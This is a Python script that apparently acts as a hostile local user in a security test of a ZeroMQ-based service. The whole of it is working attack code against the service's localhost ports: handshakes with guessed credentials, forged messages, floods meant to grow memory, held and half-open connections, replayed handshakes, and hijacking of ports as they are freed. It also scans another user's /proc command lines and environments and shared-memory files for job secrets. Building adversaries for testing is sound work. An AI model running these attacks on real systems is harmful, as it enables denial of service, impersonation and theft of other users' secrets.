#!/usr/bin/env python3
"""A stranger on the same host: another user, who knows this program well and none of its secrets.

    attacker.py VICTIM_UID SECONDS [ATTACK ...]

Attacks the ports that standard input names, a line of numbers whenever they change (anybody finds them in /proc/net/tcp;
the test names them, so that nobody else's job is hurt), in all ways at once:
joins (HELLO in every role), forges (every kind of message), floods (a message whose parts never end, lengths without end),
holds (connections that say nothing, or half a greeting), replays (--replay FILE: recorded bytes), squats (takes ports
that become free), and looks for what this user may read of the victim's processes and files. The answers, and everything that it was
allowed to do, are printed as one JSON document at the end. It speaks ZMTP 3.0 (rfc.zeromq.org/spec/23) by itself: a library would
refuse to say most of this.
"""
import argparse
import collections
import glob
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time

GREETING = b"\xff\0\0\0\0\0\0\0\x01\x7f\x03\x00"  # signature and version; then mechanism (20), as-server, filler (31)
MORE, LONG, COMMAND = 1, 2, 4
KINDS = 64  # more than there are
ROLES = (0, 1, 2, 3)
HELD = 120  # connections at once
PART = b"\xa5" * 65536
PARTS_MOST = 4096  # 256 MiB: enough to see memory grow, few enough to spare the machine if it does

counts = collections.Counter()
told = []  # what was said to us behind a handshake
lock = threading.Lock()
taken = set()  # ports at which we have listened ourselves: what we are told there are our own words


def count(name, by=1):
    with lock:
        counts[name] += by


# ---------------------------------------------------------------- the protocol
def frame(body, flags=0):
    if len(body) < 256:
        return struct.pack("BB", flags, len(body)) + body
    return struct.pack(">BQ", flags | LONG, len(body)) + body


def command(name, body=b""):
    return frame(bytes([len(name)]) + name + body, COMMAND)


def ready(kind):
    return b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind + b"\x08Identity" + struct.pack(">I", 0)


def varint(n):
    n &= (1 << 64) - 1
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def header(**fields):
    """A PsHeader (proto/ps.proto), by number: integers as varints, 8 bytes as fixed64, floats, text."""
    out = b""
    for number, value in sorted((int(name[1:]), value) for name, value in fields.items()):
        if isinstance(value, bytes) and len(value) == 8:
            out += varint(number << 3 | 1) + value
        elif isinstance(value, float):
            out += varint(number << 3 | 5) + struct.pack("<f", value)
        elif isinstance(value, str):
            out += varint(number << 3 | 2) + varint(len(value)) + value.encode()
        elif value:
            out += varint(number << 3) + varint(value)
    return out


def read_some(s, seconds):
    until, data = time.monotonic() + seconds, b""
    while time.monotonic() < until:
        if not select.select([s], [], [], max(0, until - time.monotonic()))[0]:
            break
        try:
            more = s.recv(65536)
        except OSError:
            break
        if not more:
            count("closed on us")
            break
        data += more
    return data


def connect(port, seconds=1.0):
    try:
        s = socket.create_connection(("127.0.0.1", port), seconds)
    except OSError:
        count("not connected")
        return None
    if port in taken:
        s.close()
        return None
    s.settimeout(seconds)
    count("connected")
    return s


def greet(s, mechanism, more=b""):
    """Sends a greeting and what follows; returns whether the other side has answered with READY or WELCOME."""
    try:
        s.sendall(GREETING + mechanism.ljust(20, b"\0") + b"\0" + bytes(31) + more)
    except OSError:
        return False
    answer = read_some(s, 0.3)[64:]
    if b"READY" in answer or b"WELCOME" in answer:
        count("admitted as " + mechanism.decode())
        return True
    return False


def open_null(port):
    s = connect(port)
    if s and greet(s, b"NULL", command(b"READY", ready(b"DEALER"))):
        return s
    if s:
        s.close()
    return None


# ---------------------------------------------------------------- attacks on a port
def say(s, messages):
    try:
        for m in messages:
            s.sendall(m)
            count("messages said")
    except OSError:
        count("cut off")


def listen(s, hello=False):
    """Reads the reply after the greeting, which everyone receives; "ERROR" is no more than a refusal. hello: somebody else's HELLO was
    said,
    which CURVE answers by a WELCOME that nobody but its author can read (rfc.zeromq.org/spec/26); one that ends the connection at
    what follows has often left none of it to be read."""
    answer = read_some(s, 0.3)
    if hello and answer[66:74] == b"\x07WELCOME" and len(answer) == len(GREETING) + 52 + 170:
        count("replays welcomed")
    elif len(answer) > len(GREETING) + 52 and answer[66:72] != b"\x05ERROR":
        count("answers heard")
        with lock:
            told.append(answer[:200].hex())


def joins(port, rng):
    """As whoever may be missing, in every mechanism that needs no key, and in those that need one with a guess."""
    secret = rng.randbytes(32).hex().encode()
    for mechanism, more in ((b"NULL", command(b"READY", ready(b"DEALER"))),
                            (b"PLAIN", command(b"HELLO", b"\x08worker 0" + bytes([len(secret)]) + secret)),
                            (b"PLAIN", command(b"HELLO", b"\0\0")),
                            (b"CURVE", command(b"HELLO", b"\x01\0" + bytes(72) + rng.randbytes(120))),
                            (b"GSSAPI", command(b"INITIATE", bytes(64))), (b"NONE", b"")):
        s = connect(port)
        if not s:
            return
        greet(s, mechanism, more)
        say(s, [frame(header(f1=1, f3=role, f4=rank << 1, f6=rng.randbytes(8), f7=rng.randbytes(8), f41="host"))
                for role in ROLES for rank in (0, 1)])
        listen(s)
        s.close()


def forges(port, rng):
    s = open_null(port) or connect(port)
    if not s:
        return
    messages = []
    for kind in range(1, KINDS):
        plain = header(f1=kind, f2=rng.choice((bytes(8), rng.randbytes(8))), f3=rng.choice(ROLES), f4=rng.randrange(3) << 1, f6=rng.randbytes(8),
                       f8=rng.randrange(40), f9=rng.randrange(200), f11=rng.randrange(9), f22="forged")
        messages.append(frame(plain))
        messages.append(frame(plain, MORE) + frame(rng.randbytes(4096)))
    say(s, messages)
    listen(s)
    s.close()


def floods(port, rng):
    way = rng.randrange(4)
    s = open_null(port) if way < 2 else connect(port)
    if not s:
        s = connect(port)
    if not s:
        return
    try:
        if way == 2:  # before any handshake
            s.sendall(GREETING + b"NULL".ljust(20, b"\0") + bytes(32))
        if way == 3:  # a frame as long as there can be one
            s.sendall(struct.pack(">BQ", LONG, 1 << 62))
        for _ in range(PARTS_MOST):
            s.sendall(frame(PART, MORE))
            count("parts flooded")
    except OSError:
        count("floods ended by them")
    s.close()


def replays(port, recorded):
    for data in recorded:
        s = connect(port)
        if not s:
            return
        try:
            s.sendall(data)
        except OSError:
            pass
        count("recordings replayed")
        listen(s, hello=True)
        s.close()


class Holder:
    """Connections that say nothing, or half of a greeting."""

    def __init__(self):
        self.held = collections.deque()

    def hold(self, port):
        s = connect(port)
        if not s:
            return
        try:
            s.sendall(GREETING[:len(self.held) % len(GREETING)])
        except OSError:
            pass
        self.held.append(s)
        count("connections held")
        while len(self.held) > HELD:
            self.held.popleft().close()


# ---------------------------------------------------------------- around the ports
def squat(port, until):
    """Takes a port that has become free, and lets whoever comes say something."""
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("127.0.0.1", port))
        except OSError:
            return
        taken.add(port)  # before anybody can connect
        s.listen()
        s.settimeout(0.2)
        count("ports taken")
        while time.monotonic() < until:
            try:
                peer, _ = s.accept()
            except OSError:
                continue
            count("came to a taken port")
            peer.settimeout(0.3)
            greet(peer, b"NULL", command(b"READY", ready(b"ROUTER")))
            say(peer, [frame(header(f1=kind, f3=3, f22="forged")) for kind in range(1, KINDS)])
            heard = read_some(peer, 0.3)
            if b"READY" in heard or len(heard) > 300:
                count("told at a taken port")
            peer.close()


def may_read(path, known):
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError:
        return False
    return known(data)


def sniffs(uid):
    """Lists what is readable of the victim's processes: environments, descriptors, shared memory."""
    for name in os.listdir("/proc"):
        try:
            if not name.isdigit() or os.stat(f"/proc/{name}").st_uid != uid:
                continue
        except OSError:
            continue
        if may_read(f"/proc/{name}/cmdline", lambda data: b"starring\0" in data and b"SECRET" in data.upper()):
            count("secrets on command lines")
        if may_read(f"/proc/{name}/environ", lambda data: b"STARRING_JOB_KEY" in data):
            count("secrets in environments")
    for path in glob.glob("/dev/shm/*") + glob.glob("/tmp/starring*/*"):
        try:
            if os.stat(path).st_uid == uid and may_read(path, len) and ("starring" in path or "vader" in path):
                count("files read")
                told.append(path)
        except OSError:
            continue


# ---------------------------------------------------------------- all at once
class Targets:
    """The ports to attack, as standard input names them: a line of numbers, again and again; its end is the end."""

    def __init__(self, until, squats):
        self.until, self.squats, self.ports, self.ended = until, squats, [], threading.Event()

    def read(self):
        for line in sys.stdin:
            now = [int(word) for word in line.split()]
            for port in set(self.ports) - set(now) if self.squats else ():
                threading.Thread(target=squat, args=(port, min(self.until, time.monotonic() + 5)), daemon=True).start()
            self.ports = now
            counts["ports"] = max(counts["ports"], len(now))
        self.ended.set()


def forever(until, what):
    while time.monotonic() < until:
        try:
            what()
        except (OSError, ValueError) as e:
            count("trouble: " + type(e).__name__)
            time.sleep(0.05)


def attack(args):
    until, rng, holder = time.monotonic() + args.seconds, random.Random(args.seed), Holder()
    targets = Targets(until, "squats" in args.attacks)
    recorded = [open(path, "rb").read() for path in args.replay]
    actions = {"joins": lambda port: joins(port, rng), "forges": lambda port: forges(port, rng), "floods": lambda port: floods(port, rng),
               "replays": lambda port: replays(port, recorded), "holds": holder.hold}

    def one(action):
        ports = targets.ports
        if ports:
            action(rng.choice(ports))
        else:
            time.sleep(0.01)
    work = [lambda a=actions[name]: one(a) for name in args.attacks if name in actions]
    if "sniffs" in args.attacks:
        work.append(lambda: (sniffs(args.uid), time.sleep(0.2)))
    for what in work:
        threading.Thread(target=forever, args=(until, what), daemon=True).start()
    threading.Thread(target=targets.read, daemon=True).start()
    targets.ended.wait(args.seconds)


def main():
    names = ("joins", "forges", "floods", "holds", "replays", "squats", "sniffs")
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("uid", type=int)
    p.add_argument("seconds", type=float)
    p.add_argument("attacks", nargs="*", default=list(names))
    p.add_argument("--replay", action="append", default=[], metavar="FILE")
    p.add_argument("--seed", type=int, default=1)
    args = p.parse_args()
    if set(args.attacks) - set(names):
        p.error("attacks are: " + ", ".join(names))
    print("ready", flush=True)
    attack(args)
    with lock:
        print(json.dumps({"uid": os.getuid(), "counts": dict(counts), "told": told[:20]}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
